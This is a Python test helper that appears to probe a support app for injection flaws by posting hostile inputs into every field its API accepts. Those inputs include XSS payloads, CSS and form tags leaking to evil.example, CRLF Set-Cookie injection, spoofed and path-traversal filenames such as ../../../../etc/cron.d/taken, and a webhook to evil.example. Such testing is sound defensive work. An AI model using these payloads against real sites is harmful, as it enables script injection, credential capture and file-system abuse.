"""What somebody writes who wants more than to be read: in every place that takes words."""

import base64
import json
import sqlite3
import urllib.error
import urllib.request

from company import MARIA, Company, mail

# Whatever runs says so on the window, which no page of ours does.
RUNS = "top.taken=1"
SHORT = f"<img src=x onerror={RUNS}>"
WORDS = [
    f"<script>{RUNS}</script>",
    f"\"><img src=x onerror=\"{RUNS}\">",
    f"'><svg/onload='{RUNS}'>",
    f"</title></textarea></style></script><script>{RUNS}</script>",
    f"javascript:{RUNS}//https://x.example/",
    f"<a href=\"javascript:{RUNS}\" autofocus onfocus={RUNS}>press</a>",
    f"<iframe srcdoc=\"<script>{RUNS}</script>\"></iframe>",
    f"<div hx-get=/feed/open hx-trigger=load hx-on::load={RUNS}>x</div>",
    "<style>*{background:url(https://evil.example/leak)}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/><form action=https://evil.example/><button>Sign in</button></form>",
    f"<details open ontoggle={RUNS}><summary>x</summary></details><math><mtext><img src=x onerror={RUNS}></math>",
    f"{{{{constructor.constructor('{RUNS}')()}}}}${{{RUNS}}}#{{{RUNS}}}<%={RUNS}%>",
    "invoice\u202egnp.exe\u202c \u200b\u200d\ufeff\u2066hidden\u2069",
    "one\r\nSet-Cookie: taken=1\r\n\r\n<html>two",
    "&lt;script&gt;" + RUNS + "&lt;/script&gt; &#60;img src=x onerror=" + RUNS + "&#62;",
]
FILES = ["\u200b.htaccess", "../../../../etc/cron.d/taken", "..\\..\\taken.bat", "CON", "a\r\nSet-Cookie: taken=1.txt", SHORT + ".html",
         "invoice\u202egnp.exe", "\"; filename=\"taken.html", "page.html", "picture.svg", ".", "x" * 190 + ".txt"]
PAGE = f"<!DOCTYPE html><title>t</title><script>{RUNS}</script><img src=x onerror={RUNS}>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUNS}"><script>{RUNS}</script></svg>'.encode()


class Stranger:
    """Writes hostile words wherever words are taken, with an administrator's token where it takes one."""

    def __init__(self, company: Company):
        self.company = company
        self.refused: list[str] = []
        self.cards: list[int] = []
        self._token = company.program.run("token", "create", "--member", mail(MARIA), "--scope", "admin")

    def ask(self, method: str, path: str, body: dict | None = None) -> dict:
        """The answer; an empty one where it was refused as wrong, which is right too."""
        request = urllib.request.Request(
            self.company.address + "/api/v1/" + path, json.dumps(body).encode() if body is not None else None,
            {"content-type": "application/json", "authorization": f"Bearer {self._token}"}, method=method)
        try:
            with urllib.request.urlopen(request, timeout=20) as answer:
                return json.loads(answer.read() or b"{}")
        except urllib.error.HTTPError as error:
            assert error.code == 422, f"{method} {path} {body}: {error.code} {error.read()}"
            self.refused.append(f"{method} {path}")
            return {}

    def says(self, number: int, words: str, **more) -> None:
        """A customer who is called what they say."""
        author = {"id": f"h{number}", "name": words[:120], "email": f"h{number}@hostile.example"}
        body = {"external_id": f"h{number}", "text": words * 2, "author": author, "details": {words[:80]: words}} | more
        # What is no address is refused; without it the words are taken.
        card = self.ask("POST", "interests", body | {"author": author | {"url": words}}) or self.ask("POST", "interests", body) \
            or self.ask("POST", "interests", body | {"source": None})
        if card:
            self.cards.append(card["id"])

    def everywhere(self) -> None:
        for number, words in enumerate(WORDS):
            # What comes of the page or post a word stands under, where the writer names it.
            self.says(number, words, source={"url": "https://shop.example/?q=" + words[:60].replace(" ", "+"), "title": words},
                      thread={"id": words[:60], "kind": "post"})
        files = [{"name": name, "data": base64.b64encode(SVG if name.endswith("svg") else PAGE).decode()} for name in FILES]
        self.says(90, "<b>See the files</b>", attachments=files[:6])
        self.says(91, "<i>And these</i>", attachments=files[6:])
        for card in self.cards[:3]:
            self.ask("POST", f"interests/{card}/tags", {"name": SHORT})
            self.ask("POST", f"interests/{card}/notes", {"text": "\n".join(WORDS)})
            self.ask("POST", f"interests/{card}/claim")
            self.ask("POST", f"interests/{card}/processed", {"note": WORDS[1]})
        for words in (SHORT, WORDS[1][:60]):
            self.ask("POST", "products", {"names": {"en": words, "ru": words, "de": words}, "aliases": [words]})
            self.ask("POST", "teams", {"name": words})
            self.ask("POST", "templates", {"name": words, "folder": words, "text_en": words + "{{customer.name}}"})
            self.ask("POST", "views", {"name": words, "list": "open", "query": "q=" + SHORT.replace(" ", "+")})
            self.ask("POST", "rules", {"name": words, "strategy": "turn"})
            self.ask("POST", "hours", {"name": words, "zone": "Europe/Berlin", "day_0": "9:00–18:00"})
        self.ask("POST", "webhooks", {"url": "https://evil.example/" + SHORT.replace(" ", "%20"), "note": WORDS[1], "events": ["interest.created"]})
        self.ask("POST", "calls", {"number": "+49 30 901820", "outcome": WORDS[1]})
        for channel in self.ask("GET", "channels")["items"]:
            self.ask("PATCH", f"channels/{channel['id']}/settings", {"name": SHORT + str(channel["id"])})
        self.ask("PUT", "company", {"name": "A" + SHORT, "description": WORDS[1]})

    def answers(self) -> None:
        """What a webhook's receiver answered and what could not be read, as they would be written down."""
        company = self.company
        company.program.stop()
        with sqlite3.connect(company.program.data / "kindred.sqlite") as db:
            workspace, channel = db.execute("SELECT workspace_id, id FROM channel").fetchone()
            hook = db.execute("SELECT id FROM webhook").fetchone()
            if hook:
                db.execute("INSERT INTO webhook_delivery (id, workspace_id, webhook_id, event, subject_id, body, state, next_at, status, answer,"
                           " last_error, created_at, ended_at) VALUES (77, ?, ?, 'interest.created', 1, '{}', 'dead', 1, 500, ?, ?, 1, 1)",
                           (workspace, hook[0], WORDS[0], WORDS[1]))
            db.execute("INSERT INTO quarantine (id, workspace_id, channel_id, external_id, reason, at) VALUES (78, ?, ?, ?, ?, 1)",
                       (workspace, channel, WORDS[0], WORDS[1]))
            db.execute("UPDATE member SET name = name || ?", (SHORT,))
        company.program.start()
